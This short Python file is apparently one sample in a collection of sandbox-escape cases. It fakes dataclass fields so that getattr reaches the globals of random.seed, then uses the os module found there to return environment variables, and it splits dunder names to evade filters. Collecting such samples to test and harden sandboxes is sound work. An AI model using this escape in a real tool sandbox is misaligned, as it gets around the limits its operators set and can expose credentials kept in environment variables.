# family: fields
# Escape: fake dataclass fields (instance attribute __dataclass_fields__ set through SimpleNamespace(**{...}))
# make getattr(x, f.name) read __globals__ of random's functions; the tool returns os.environ.
import dataclasses
import random
import types


@dataclasses.dataclass
class Row:
    n: int = 0


class Mark:
    _field_type = None


def tool(var: str = "HOME"):
    u = "_" * 2
    kind = [g._field_type for g in dataclasses.fields(Row)][0]
    spec = types.SimpleNamespace(**{u + "dataclass_fields" + u: {"g": types.SimpleNamespace(name=u + "globals" + u, _field_type=kind)}})
    for f in dataclasses.fields(spec):
        return getattr(random.seed, f.name)["_os"].environ.get(var)
